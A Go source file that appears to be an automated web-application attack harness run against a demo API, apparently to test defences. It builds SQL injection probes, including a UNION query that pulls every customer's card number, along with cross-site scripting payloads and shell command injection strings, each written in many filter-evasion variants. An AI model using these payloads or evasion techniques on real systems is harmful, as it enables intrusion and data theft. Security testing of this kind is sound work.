package attack

import (
	"context"
	"fmt"
	"net/http"
	"regexp"
	"slices"
	"strings"
)

// A written payload is one text in one way of writing it.
type written struct{ text, as, name string }

// sent builds the exploit that puts text at p and asks judge about the answer.
func (o *operation) sent(p place, w written, judge func(*answer) string) exploit {
	return func(ctx context.Context, s *session) (string, error) {
		a, err := s.send(ctx, o.request(&p, w.text, w.as))
		if err != nil {
			return "", err
		}
		return judge(a), nil
	}
}

// pair builds the exploit that asks a question twice, once so that its answer is
// yes and once no: two answers that differ, though only the condition did, mean
// that the condition was evaluated. The no is asked twice, as some answers never
// are the same.
func (o *operation) pair(p place, yes, no written, differ func(yes, no *answer) string) exploit {
	return func(ctx context.Context, s *session) (string, error) {
		var all [3]*answer
		for i, w := range []written{no, no, yes} {
			a, err := s.send(ctx, o.request(&p, w.text, w.as))
			if err != nil {
				return "", err
			}
			if a.refused() {
				return "", nil
			}
			all[i] = a
		}
		if all[0].status != all[1].status || without(all[0].body, no.text) != without(all[1].body, no.text) {
			return "", nil
		}
		all[0].body, all[2].body = without(all[0].body, no.text), without(all[2].body, yes.text)
		return differ(all[2], all[0]), nil
	}
}

// each visits every place of every operation that is attacked.
func (r *runner) each(ctx context.Context, visit func(o *operation, p place)) {
	for _, o := range r.ops {
		if strings.HasSuffix(o.path, "/events") {
			continue // does not end
		}
		for _, p := range o.places() {
			if r.stopped == nil && ctx.Err() == nil {
				visit(o, p)
			}
		}
		r.restore(ctx, o)
	}
}

// restore writes what is right over what the tries wrote, bare.
func (r *runner) restore(ctx context.Context, o *operation) {
	if o.method == http.MethodPatch || o.method == http.MethodPut {
		_, _ = r.bare.send(ctx, o.request(nil, "", "")) // as good as it can be
	}
}

func (o *operation) called(p place, what string) string {
	return fmt.Sprintf("%s %s, %s: %s", o.method, o.path, p, what)
}

var databaseError = regexp.MustCompile(`(?i)SQL logic error|SQLSTATE|ORA-[0-9]{5}|syntax error at or near|You have an error in your SQL syntax|unrecognized token|near "[^"]*": syntax error|Unclosed quotation mark|SqlException`)

// sqlInjection looks for places where a quote or an expression reaches the
// database, then takes what it can there, written in many ways.
func (r *runner) sqlInjection(ctx context.Context) {
	sameStatus := func(yes, no *answer) string {
		if yes.ok() && no.status >= 500 {
			return "an expression of the caller's was evaluated"
		}
		return ""
	}
	sameBody := func(yes, no *answer) string {
		if yes.ok() && no.ok() && len(yes.body) > len(no.body) {
			return fmt.Sprintf("a condition of the caller's decided: %d bytes of answer if true, %d if false", len(yes.body), len(no.body))
		}
		return ""
	}
	r.each(ctx, func(o *operation, p place) {
		right := o.at(p)
		if p.in == "path" || p.in == "header" && slices.Contains(commonHeaders, p.name) {
			right = "zq"
		}
		breaks := r.try(ctx, rowSQL, o.called(p, "the database's error"), "a quote", o.sent(p, written{text: right + "'"}, func(a *answer) string {
			if m := databaseError.FindString(a.body); m != "" {
				return "the answer says " + m
			}
			return ""
		}))
		if !breaks {
			return
		}
		for _, quote := range []string{"'", "%'"} {
			yes := written{text: "zq" + quote + " OR 'a'='a' -- "}
			no := written{text: "zq" + quote + " AND 'a'='b' -- "}
			for _, paren := range []string{"", ")"} {
				yes.text, no.text = strings.Replace(yes.text, quote+" ", quote+paren+" ", 1), strings.Replace(no.text, quote+" ", quote+paren+" ", 1)
				if r.try(ctx, rowSQL, o.called(p, "a condition that is always true"), "OR", o.pair(p, yes, no, sameBody)) {
					r.union(ctx, o, p, "zq"+quote+paren)
					return
				}
			}
		}
		r.try(ctx, rowSQL, o.called(p, "an expression"), "subquery", o.pair(p, written{text: "(SELECT 1)"}, written{text: "(SELECT zq)"}, sameStatus))
	})
}

// union finds how many columns the query has, then reads what the database
// computes, and the tables' own texts, in many ways of writing.
func (r *runner) union(ctx context.Context, o *operation, p place, begin string) {
	a, b, product := numbers()
	value := fmt.Sprintf("'zq'||(%d*%d)", a, b)
	judge := func(ans *answer) string {
		if strings.Contains(ans.body, "zq"+product) {
			return "the database computed zq" + product
		}
		return ""
	}
	for columns := 1; columns <= 12; columns++ {
		list := strings.TrimSuffix(strings.Repeat(value+",", columns), ",")
		plain := begin + " UNION SELECT " + list + " -- "
		found, err := o.sent(p, written{text: plain}, judge)(ctx, &session{run: r, target: r.bare})
		if r.ended(ctx, err) {
			return
		}
		if found == "" {
			continue
		}
		name := o.called(p, "UNION reads what the database computes")
		for _, w := range sqlWritings(plain, p) {
			r.try(ctx, rowSQL, name, w.name, o.sent(p, w, judge))
		}
		// What is worth stealing: another customer's card, where the table is the demo's.
		steal := strings.TrimSuffix(strings.Repeat("card_number,", columns), ",")
		r.try(ctx, rowSQL, o.called(p, "UNION takes all card numbers"), "plain", o.sent(p, written{text: begin + " UNION SELECT " + steal + " FROM customers -- "}, func(ans *answer) string {
			if strings.Contains(ans.body, "5555555555554444") {
				return "bob's card number, 5555…4444"
			}
			return ""
		}))
		return
	}
}

// sqlWritings are ways to write one injection that a database reads alike.
func sqlWritings(plain string, p place) []written {
	out := []written{
		{text: plain, name: "plain"},
		{text: strings.ReplaceAll(plain, " ", "/**/"), name: "comments for spaces"},
		{text: strings.ReplaceAll(plain, " ", "\t"), name: "tabs for spaces"},
		{text: strings.ReplaceAll(plain, " ", "\n"), name: "line ends for spaces"},
		{text: strings.NewReplacer("UNION", "uNiOn", "SELECT", "sElEcT").Replace(plain), name: "mixed case"},
		{text: strings.Replace(plain, "UNION SELECT", "UNION ALL SELECT", 1), name: "UNION ALL"},
		{text: strings.Replace(plain, "UNION SELECT", "UNION/*zq*/ALL/*zq*/SELECT", 1), name: "words in comments"},
		{text: strings.Replace(plain, "UNION SELECT ", "UNION SELECT DISTINCT ", 1), name: "DISTINCT"},
		{text: strings.Replace(plain, " UNION SELECT ", " UNION VALUES(", 1), name: "VALUES"},
		{text: strings.ReplaceAll(plain, "'zq'", "char(122,113)"), name: "characters by number"},
	}
	out[8].text = strings.Replace(out[8].text, " -- ", ") -- ", 1)
	if p.in == "body" {
		out = append(out, written{text: plain, as: "escapes", name: "as \\u escapes of JSON"})
	}
	return out
}

// scripting looks for places whose text comes back as markup.
func (r *runner) scripting(ctx context.Context) {
	probe := "zq<i>zq"
	judge := func(payload string) func(*answer) string {
		return func(a *answer) string {
			kind := a.header.Get("Content-Type")
			if !a.refused() && (kind == "" || strings.HasPrefix(kind, "text/html")) && strings.Contains(a.body, payload) {
				return "the page holds " + cut(payload, 60)
			}
			return ""
		}
	}
	r.each(ctx, func(o *operation, p place) {
		found, err := o.sent(p, written{text: probe}, judge(probe))(ctx, &session{run: r, target: r.bare})
		if r.ended(ctx, err) || found == "" {
			return
		}
		for _, w := range scriptWritings(p) {
			r.try(ctx, rowXSS, o.called(p, "a script in the page"), w.name, o.sent(p, w, judge(w.text)))
		}
	})
	r.storedScript(ctx)
}

func scriptWritings(p place) []written {
	a, _, _ := numbers()
	out := []written{
		{text: fmt.Sprintf("<script>alert(%d)</script>", a), name: "script"},
		{text: fmt.Sprintf("<ScRiPt >alert(%d)</sCrIpT>", a), name: "mixed case"},
		{text: fmt.Sprintf("<img src=x onerror=alert(%d)>", a), name: "an image's error"},
		{text: fmt.Sprintf("<svg/onload=alert(%d)>", a), name: "SVG without spaces"},
		{text: fmt.Sprintf(`"><script>alert(%d)</script>`, a), name: "out of an attribute"},
		{text: fmt.Sprintf("<a href=\"jAvAsCrIpT:alert(%d)\">zq</a>", a), name: "a link"},
		{text: fmt.Sprintf("<iframe src=\"javascript:alert(%d)\"></iframe>", a), name: "a frame"},
		{text: fmt.Sprintf("<details open ontoggle=alert(%d)>", a), name: "an element that opens"},
		{text: fmt.Sprintf("<body onpageshow=alert(%d)>", a), name: "the page's own event"},
		{text: fmt.Sprintf("<object data=\"data:text/html;base64,PHNjcmlwdD4\" id=zq%d></object>", a), name: "data: in Base64"},
	}
	if p.in == "body" {
		out = append(out, written{text: out[0].text, as: "escapes", name: "as \\u escapes of JSON"})
	}
	return out
}

// commands looks for places whose text reaches a shell.
func (r *runner) commands(ctx context.Context) {
	r.each(ctx, func(o *operation, p place) {
		if p.in == "path" {
			return
		}
		for n, w := range shellWritings(p) {
			a, b, product := numbers()
			w.text = strings.NewReplacer("A", fmt.Sprint(a), "B", fmt.Sprint(b)).Replace(w.text)
			worked := r.try(ctx, rowRCE, o.called(p, "the shell computes"), w.name, o.sent(p, w, func(ans *answer) string {
				if !ans.refused() && strings.Contains(ans.body, product) {
					return "the shell computed " + product
				}
				return ""
			}))
			if n == 1 && !worked && r.found(rowRCE, o.called(p, "the shell computes")) == 0 {
				return
			}
		}
	})
}

func shellWritings(p place) []written {
	out := []written{
		{text: "zq; echo $((A*B))", name: "semicolon"},
		{text: "zq$(echo $((A*B)))", name: "substitution"},
		{text: "zq`expr A \\* B`", name: "backticks"},
		{text: "zq && expr A \\* B", name: "and"},
		{text: "zq | expr A \\* B", name: "pipe"},
		{text: "zq || true; expr A \\* B", name: "or"},
		{text: "zq;expr${IFS}A${IFS}\\*${IFS}B", name: "${IFS} for spaces"},
		{text: "zq;e'x'pr A \\* B", name: "quotes in the name"},
		{text: "zq;/usr/bin/expr A \\* B", name: "the program's path"},
		{text: "zq;e\\xpr A \\* B", name: "a backslash in the name"},
		{text: "zq & /bin/sh -c 'expr A \\* B'", name: "another shell"},
	}
	if p.in != "header" {
		out = append(out, written{text: "zq\nexpr A \\* B", name: "line end"})
	}
	if p.in == "body" {
		out = append(out, written{text: "zq; expr A \\* B", as: "escapes", name: "as \\u escapes of JSON"})
	}
	return out
}

// found counts the tries of a name that worked bare.
func (r *runner) found(row, name string) (n int) {
	for _, t := range r.tries {
		if t.Row == row && t.Name == name {
			n++
		}
	}
	return n
}
